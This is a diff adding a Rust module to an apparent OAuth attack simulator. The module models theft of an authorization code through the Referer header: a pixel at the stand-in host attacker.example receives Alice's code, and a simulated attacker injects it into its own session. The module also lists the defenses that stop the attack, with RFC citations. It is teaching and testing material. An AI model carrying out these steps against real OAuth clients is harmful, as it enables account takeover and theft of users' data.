@@ -1,0 +1,97 @@
+//! `referer-leak`: the client's callback page embeds a third-party resource; the
+//! browser sends the callback URL, code included, in `Referer`, and the third party
+//! injects the code into its own session (RFC 9700 §4.2).
+
+use crate::actors::well_known as wk;
+use crate::actors::{ActorId, Ctx, Defenses};
+use crate::attacks::attacker::{Attacker, Kit, Playbook};
+use crate::attacks::interceptors::{Tap, TapAction, is_request};
+use crate::attacks::setup::{
+    ATTACKER, ATTACKER_BROWSER, ATTACKER_ORIGIN, attacker_browser, client_photos_owner_of, injection_url, navigate, query, request_url,
+};
+use crate::attacks::{Attack, AttackInfo, Capability, Stopper};
+use crate::protocol::http_wire::{self, Request, Response};
+use crate::sim::Simulation;
+use crate::sim::world::{WorldBuilder, alice_signs_in};
+
+pub struct RefererLeak;
+
+static INFO: AttackInfo = AttackInfo {
+    id: "referer-leak",
+    title: "Code leaked in the Referer header",
+    story: "Photo Printer's callback page shows an analytics pixel from attacker.example. When Alice's browser loads \
+            it, it sends the page's URL — https://client.example/cb?code=…&state=… — in the Referer header. The \
+            attacker, who has a sign-in of its own waiting at Photo Printer, opens the callback with Alice's code \
+            in its own browser.",
+    capabilities: &[Capability::WebAttacker],
+    setup: "Photo Printer's callback page embeds https://attacker.example/pixel.gif; the browser's default referrer policy \
+            is the legacy no-referrer-when-downgrade.",
+    steps: &[
+        "Start a sign-in at Photo Printer; stop at the AS (keep the session and its state)",
+        "Serve the pixel; read the code from the Referer of Alice's request",
+        "Open client.example/cb?code=<Alice's code>&state=<own state> in the attacker's browser",
+    ],
+    goal: "the attacker's session at Photo Printer shows Alice's photos",
+    stoppers: &[
+        Stopper { defense: "referrer-policy", why: "Referrer-Policy: no-referrer on the callback page sends no Referer (RFC 9700 §4.2.4)" },
+        Stopper { defense: "one-time-codes", why: "the code was already redeemed by the client (RFC 6749 §4.1.2)" },
+        Stopper { defense: "pkce", why: "the attacker's session verifier does not match Alice's challenge (RFC 9700 §4.2.4)" },
+        Stopper { defense: "pkce-required", why: "without PKCE at the client the AS grants no code at all" },
+        Stopper { defense: "nonce", why: "the ID token's nonce is Alice's, not the attacker session's" },
+    ],
+    references: "RFC 9700 §4.2; RFC 6749 §4.1.2",
+};
+
+#[derive(Default)]
+struct Pixel {
+    own_state: Option<String>,
+    injected: bool,
+}
+
+impl Playbook for Pixel {
+    fn on_observed(&mut self, _kit: &mut Kit, ctx: &mut Ctx<'_>, wire: &str) {
+        if let Some(url) = request_url(wire) {
+            self.own_state = query(&url).first("state").map(str::to_string);
+            ctx.note("Attacker: stopped its own sign-in at the AS; its session at the client waits with its own state.");
+        }
+    }
+
+    fn on_request(&mut self, kit: &mut Kit, ctx: &mut Ctx<'_>, req: &Request) -> Option<Response> {
+        let referer = http_wire::header(req, "referer").map(str::to_string)?;
+        let code = query(&referer).first("code").map(str::to_string)?;
+        if !self.injected {
+            self.injected = true;
+            kit.drive(ctx, ATTACKER_BROWSER, &injection_url(&code, self.own_state.as_deref()), "The attacker opens the callback with the leaked code.");
+        }
+        None
+    }
+}
+
+impl Attack for RefererLeak {
+    fn info(&self) -> &'static AttackInfo {
+        &INFO
+    }
+
+    fn build(&self, seed: u64, defenses: Defenses) -> Simulation {
+        let mut w = WorldBuilder::standard(seed, defenses);
+        w.client.callback_page_third_party = Some(format!("{ATTACKER_ORIGIN}/pixel.gif"));
+        let mut sim = w.build();
+        sim.add_actor(Box::new(Attacker::new(ATTACKER, "Attacker (attacker.example)", &[ATTACKER_ORIGIN], Pixel::default())));
+        sim.add_attacker_actor(Box::new(attacker_browser()));
+        sim.add_interceptor(Box::new(Tap::new(
+            "the attacker stops its own browser at the AS",
+            |env| is_request(env, ATTACKER_BROWSER, wk::AS, "/authorize"),
+            TapAction::Capture(ActorId::new(ATTACKER)),
+        )));
+        sim.push_scenario(navigate(ATTACKER_BROWSER, &format!("{}/login", wk::CLIENT_ORIGIN), "Mallory starts a sign-in at Photo Printer in her own browser."));
+        sim.push_scenario(alice_signs_in());
+        sim
+    }
+
+    fn goal(&self, sim: &Simulation) -> Option<String> {
+        (client_photos_owner_of(sim, ATTACKER_BROWSER)? == wk::ALICE)
+            .then(|| "the attacker's browser session at Photo Printer shows Alice's photos".to_string())
+    }
+}
+
+pub static ATTACK: RefererLeak = RefererLeak;
